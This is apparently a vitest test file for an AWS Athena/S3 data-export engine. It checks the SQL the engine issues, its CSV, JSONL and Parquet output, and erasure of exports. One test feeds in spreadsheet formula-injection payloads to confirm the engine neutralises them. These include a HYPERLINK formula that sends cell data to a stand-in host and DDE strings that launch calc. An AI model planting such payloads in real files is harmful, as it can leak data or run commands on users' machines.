import type { AthenaClient } from '@aws-sdk/client-athena';
import { S3Client } from '@aws-sdk/client-s3';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { formatResult } from '../../infra/local/athena.js';
import { AthenaExportEngine, jsonLine } from '../../shared/adapters/athena-export-engine.js';
import { csvCell, csvField, EXPORT_COLUMNS, parseExportRequest, type ExportJob } from '../../shared/domain/exports.js';

/**
 * The AWS export engine's own logic against a stand-in for Athena and S3 (neither has a local engine; the local
 * runtime's DuckDB exporter is tested end to end in test/integration/exports.test.ts): the statements it issues,
 * how Athena's CSV results become CSV and JSONL parts, and how the parts become one file.
 */
function cloud(resultCsv: Record<string, string>) {
  const objects = new Map<string, Buffer>();
  const statements: string[] = [];
  let n = 0;
  const athena = {
    send: async (command: { constructor: { name: string }; input: any }) => {
      switch (command.constructor.name) {
        case 'StartQueryExecutionCommand': {
          statements.push(command.input.QueryString);
          return { QueryExecutionId: `q${n++}` };
        }
        case 'GetQueryExecutionCommand': {
          const sql = statements[Number(command.input.QueryExecutionId.slice(1))]!;
          const day = /dt BETWEEN '([\d-]+)'/.exec(sql)?.[1] ?? 'none';
          if (sql.endsWith('ORDER BY occurred_at, id')) objects.set(`results/${day}.csv`, Buffer.from(resultCsv[day] ?? ''));
          return { QueryExecution: { Status: { State: 'SUCCEEDED' }, ResultConfiguration: { OutputLocation: `s3://results-bucket/results/${day}.csv` } } };
        }
        case 'GetQueryResultsCommand': {
          const sql = statements[Number(command.input.QueryExecutionId.slice(1))]!;
          const rows = sql.startsWith('SELECT DISTINCT dt') ? Object.keys(resultCsv).sort().map((d) => ({ Data: [{ VarCharValue: d }] })) : [{ Data: [{ VarCharValue: '2' }] }];
          return { ResultSet: { Rows: [{ Data: [{ VarCharValue: 'header' }] }, ...rows] } };
        }
      }
      throw new Error(`unexpected ${command.constructor.name}`);
    },
  } as unknown as AthenaClient;
  // A real client's configuration (lib-storage reads it to name the upload's location); its send is the stand-in.
  const s3 = Object.assign(new S3Client({ region: 'us-east-1', credentials: { accessKeyId: 'x', secretAccessKey: 'x' } }), {
    send: async (command: { constructor: { name: string }; input: any }) => {
      const input = command.input;
      switch (command.constructor.name) {
        case 'GetObjectCommand':
          return { Body: Readable.from([objects.get(input.Key)!]) };
        case 'PutObjectCommand': {
          // lib-storage sends a small body whole (bytes), a large one as parts: this stand-in takes either.
          if (typeof input.Body === 'string' || input.Body instanceof Uint8Array) objects.set(input.Key, Buffer.from(input.Body));
          else {
            const chunks: Buffer[] = [];
            for await (const c of input.Body as AsyncIterable<Buffer | string>) chunks.push(Buffer.from(c));
            objects.set(input.Key, Buffer.concat(chunks));
          }
          return {};
        }
        case 'ListObjectsV2Command':
          return { Contents: [...objects.keys()].filter((k) => k.startsWith(input.Prefix)).sort().map((Key) => ({ Key })) };
        case 'DeleteObjectsCommand':
          for (const { Key } of input.Delete.Objects) objects.delete(Key);
          return {};
        case 'CopyObjectCommand':
          objects.set(input.Key, objects.get(decodeURIComponent(input.CopySource.slice('exports/'.length)))!);
          return {};
        case 'HeadObjectCommand':
          return { ContentLength: objects.get(input.Key)!.length };
      }
      throw new Error(`unexpected ${command.constructor.name}`);
    },
  }) as unknown as S3Client;
  return { athena, s3, objects, statements };
}

const header = EXPORT_COLUMNS.map((c) => `"${c}"`).join(',');
const row = (id: string, payload: string) => EXPORT_COLUMNS.map((c) => (c === 'id' ? id : c === 'payload' ? payload : c === 'amount' ? '12.5' : c === 'reason' ? 'line one\nline "two", three' : '')).map((v) => `"${v.replace(/"/g, '""')}"`).join(',');

function job(format: ExportJob['format']): ExportJob {
  const { filter } = parseExportRequest({ format, filter: { from: '2026-11-01T00:00:00Z', to: '2026-11-03T00:00:00Z', type: 'purchase_completed,source.*', lead_id: "o'hara" } });
  return { orgId: 'org_1', id: 'ex_1', format, filter, status: 'running', requestedAt: '2026-11-03T00:00:00.000Z', settleUntil: '2026-11-03T00:00:00.000Z', daysDone: 0, rows: 0, bytes: 0 };
}

describe('the AWS export engine', () => {
  const results = {
    '2026-11-01': `${header}\n${row('e1', '{"order_id":828758318460506337}')}\n`,
    '2026-11-02': `${header}\n${row('e2', '{"a":[1,2]}')}\n${row('e3', '{}')}\n`,
  };

  it('asks Athena per day, with every filter as a quoted literal', async () => {
    const { athena, s3, statements } = cloud(results);
    const engine = new AthenaExportEngine(athena, s3, { bucket: 'exports', database: 'leadlog_dev', workGroup: 'wg', pollMs: 1 });
    expect(await engine.days(job('csv'))).toEqual(['2026-11-01', '2026-11-02']);
    expect(statements[0]).toContain("org_id = 'org_1' AND dt BETWEEN '2026-11-01' AND '2026-11-02'");
    expect(statements[0]).toContain("(event_type = 'purchase_completed' OR starts_with(event_type, 'source.'))");
    expect(statements[0]).toContain("lead_id = 'o''hara'");
  });

  it('CSV: re-quotes what Athena wrote, under one header; JSONL: JSON columns nested as their text, digits kept', async () => {
    for (const format of ['csv', 'jsonl'] as const) {
      const { athena, s3, objects } = cloud(results);
      const engine = new AthenaExportEngine(athena, s3, { bucket: 'exports', database: 'leadlog_dev', workGroup: 'wg', pollMs: 1 });
      const j = job(format);
      expect((await engine.writeDay(j, '2026-11-01')).rows).toBe(1);
      expect((await engine.writeDay(j, '2026-11-02')).rows).toBe(2);
      const { bytes } = await engine.finish(j);
      const file = objects.get(`exports/org_1/ex_1.${format}`)!.toString('utf8');
      expect(bytes).toBe(Buffer.byteLength(file));
      expect([...objects.keys()].filter((k) => k.startsWith('_parts/'))).toEqual([]);
      if (format === 'csv') {
        expect(file.split('\n')[0]).toBe(EXPORT_COLUMNS.join(','));
        expect(file).toContain('e1,');
        expect(file).toContain('"line one\nline ""two"", three"');
        expect(file).toContain('"{""order_id"":828758318460506337}"');
      } else {
        const lines = file.trim().split('\n');
        expect(lines).toHaveLength(3);
        expect(lines[0]).toContain('"payload":{"order_id":828758318460506337}');
        expect(JSON.parse(lines[1]!)).toMatchObject({ id: 'e2', payload: { a: [1, 2] }, amount: 12.5, reason: 'line one\nline "two", three', lead_id: null });
      }
    }
  });

  it('Parquet: one CREATE TABLE AS with a single bucket over the whole range, then the scratch table is dropped', async () => {
    const { athena, s3, statements, objects } = cloud(results);
    const engine = new AthenaExportEngine(athena, s3, { bucket: 'exports', database: 'leadlog_dev', workGroup: 'wg', pollMs: 1 });
    const j = job('parquet');
    expect(await engine.days(j)).toEqual(['all']);
    expect((await engine.writeDay(j, 'all')).rows).toBe(2);
    expect(statements.find((s) => s.startsWith('CREATE TABLE'))).toMatch(/external_location = 's3:\/\/exports\/_parts\/org_1\/ex_1\/', bucketed_by = ARRAY\['id'\], bucket_count = 1\) AS SELECT/);
    expect(statements.at(-1)).toBe('DROP TABLE IF EXISTS "leadlog_dev"."export_ex_1"');
    objects.set('_parts/org_1/ex_1/20261103_000000_00000_abc_bucket-00000', Buffer.from('PAR1…PAR1'));
    expect((await engine.finish(j)).bytes).toBe(Buffer.byteLength('PAR1…PAR1'));
    expect(objects.get('exports/org_1/ex_1.parquet')!.toString()).toBe('PAR1…PAR1');
  });

  it("CSV: a text cell that begins like a formula (=, +, -, @, tab, CR) gets a leading ', numbers do not; JSONL keeps the text as it is", async () => {
    const hostile: Record<string, string> = {
      lead_id: '=HYPERLINK("http://evil.example/?"&A1,"Click")', reason: '+cmd|\' /C calc\'!A0', flow_id: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      step_id: '-2+3+cmd|\' /C calc\'!A0', entity_id: '\t=1+1', object_id: '\r=1+1', source: 'web', currency: "'already",
      payload: '{"hidden":"=1+1"}', amount: '-5.0', price: '-0.5', duration_ms: '12.0', cost: '',
    };
    const athenaRow = EXPORT_COLUMNS.map((c) => (c === 'id' ? 'e1' : hostile[c] ?? '')).map((v) => `"${v.replace(/"/g, '""')}"`).join(',');
    for (const format of ['csv', 'jsonl'] as const) {
      const { athena, s3, objects } = cloud({ '2026-11-01': `${header}\n${athenaRow}\n` });
      const engine = new AthenaExportEngine(athena, s3, { bucket: 'exports', database: 'leadlog_dev', workGroup: 'wg', pollMs: 1 });
      const j = job(format);
      await engine.writeDay(j, '2026-11-01');
      await engine.finish(j);
      const file = objects.get(`exports/org_1/ex_1.${format}`)!.toString('utf8');
      if (format === 'csv') {
        const [record] = parse(file, { columns: true }) as Record<string, string>[];
        for (const column of ['lead_id', 'reason', 'flow_id', 'step_id', 'entity_id', 'object_id']) expect(record![column], column).toBe(`'${hostile[column]}`);
        expect(record).toMatchObject({ source: 'web', currency: "'already", payload: '{"hidden":"=1+1"}', amount: '-5.0', price: '-0.5', duration_ms: '12.0', cost: '' });
      } else {
        // JSONL is not read by spreadsheets: values stay exactly as sent.
        expect(JSON.parse(file)).toMatchObject({ lead_id: hostile.lead_id, step_id: hostile.step_id, amount: -5 });
      }
    }
  });

  it("npm run athena -- --format csv: the same rule, number-typed columns exempt whatever their text", () => {
    const csv = formatResult({
      columns: ['lead_id', 'reason', 'revenue', 'n'],
      rows: [{ lead_id: '=HYPERLINK("http://evil.example")', reason: '\t@SUM(1)', revenue: '-5.00', n: -2 }, { lead_id: 'lead_1', reason: 'a, b', revenue: '3.50', n: 1 }],
      numeric: [false, false, true, true],
    }, 'csv');
    expect(parse(csv, { columns: true })).toEqual([
      { lead_id: `'=HYPERLINK("http://evil.example")`, reason: "'\t@SUM(1)", revenue: '-5.00', n: '-2' },
      { lead_id: 'lead_1', reason: 'a, b', revenue: '3.50', n: '1' },
    ]);
  });

  it('erasure (section 9): asks the export\'s own query narrowed to the leads, and deletes the parts and the file', async () => {
    const { athena, s3, statements, objects } = cloud(results);
    const engine = new AthenaExportEngine(athena, s3, { bucket: 'exports', database: 'leadlog_dev', workGroup: 'wg', pollMs: 1 });
    const j = job('csv');
    expect(await engine.holdsLeads(j, ["o'hara", 'lead_2'])).toBe(true);
    expect(statements.at(-1)).toMatch(/^SELECT 1 FROM events WHERE org_id = 'org_1' AND dt BETWEEN .* AND lead_id IN \('o''hara', 'lead_2'\) LIMIT 1$/);
    expect(await engine.holdsLeads(j, [])).toBe(false);
    objects.set('exports/org_1/ex_1.csv', Buffer.from('file'));
    objects.set('_parts/org_1/ex_1/2026-11-01.csv', Buffer.from('part'));
    objects.set('exports/org_1/ex_10.csv', Buffer.from('another export'));
    await engine.discard(j);
    expect([...objects.keys()].filter((k) => k.includes('ex_1.') || k.includes('/ex_1/'))).toEqual([]);
    expect(objects.has('exports/org_1/ex_10.csv')).toBe(true);
  });

  it('writes CSV fields and JSON lines by the rules', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('')).toBe('');
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(JSON.parse(jsonLine(EXPORT_COLUMNS.map((c) => (c === 'id' ? 'x' : c === 'duration_ms' ? '7' : ''))))).toMatchObject({ id: 'x', duration_ms: 7, payload: null });
  });
});

describe("a job step's answer to its workflow", async () => {
  const { stepAnswer } = await import('../../shared/adapters/step-functions-jobs.js');
  it('says waiting with whole seconds, or completed, with the ids it was given', () => {
    expect(stepAnswer({ org_id: 'o', export_id: 'e' }, { waitMs: 1500 })).toEqual({ org_id: 'o', export_id: 'e', status: 'waiting', wait_seconds: 2 });
    expect(stepAnswer({ org_id: 'o', export_id: 'e' }, { waitMs: 0 })).toEqual({ org_id: 'o', export_id: 'e', status: 'waiting', wait_seconds: 0 });
    expect(stepAnswer({ org_id: 'o', replay_id: 'r' }, { done: {} })).toEqual({ org_id: 'o', replay_id: 'r', status: 'completed' });
  });
});
